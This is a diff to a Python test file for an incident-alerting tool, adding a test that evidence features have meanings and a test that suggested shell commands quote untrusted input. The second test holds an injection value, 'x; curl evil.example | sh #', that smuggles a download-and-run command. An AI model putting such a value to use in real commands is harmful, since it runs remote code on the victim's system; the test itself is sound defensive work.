@@ -2,6 +2,8 @@
 
 import io
 import json
+import re
+import shlex
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -12,8 +14,9 @@ from shop_case import shop_baseline, shop_case
 
 from sidelong.alerts.format_cloudevents import cloudevents
 from sidelong.alerts.format_json import json_payload
-from sidelong.alerts.incident import Incident
+from sidelong.alerts.incident import Actor, Incident
 from sidelong.cli import run
+from sidelong.evidence_meanings import meaning_of
 from sidelong.explanation import explained
 from sidelong.explanation_view import show
 from sidelong.recording import Sight
@@ -193,6 +196,29 @@ def test_an_id_alone_says_where_it_looked(
     assert status == 2
     assert "no input is named, and no outbox is at" in err
     assert "--config" in err
+
+
+def test_every_piece_of_evidence_has_its_meaning() -> None:
+    named = re.compile(r'(?:_part\(\s*|feature=pl\.lit\()"([a-z_]+)"')
+    features = [
+        feature
+        for module in Path("models").glob("*.py")
+        for feature in named.findall(module.read_text(encoding="utf-8"))
+    ]
+    assert len(set(features)) > 10
+    assert [one for one in features if not meaning_of(one)] == []
+
+
+def test_no_command_to_be_typed_holds_another() -> None:
+    evil = "x; curl evil.example | sh #"
+    one = replace(incident("scan"), id=evil, actor=Actor(f"shop/{evil}", evil))
+    told = explained(one, where=[evil, "--pods", evil], judged_by=evil)
+    commands = [step.command for step in told.next if step.command]
+    assert len(commands) == 4
+    for command in commands:
+        words = shlex.split(command)
+        assert ";" not in words
+        assert command.count(evil) == command.count(f"'{evil}'") > 0
 
 
 def test_what_was_not_seen_is_said() -> None:
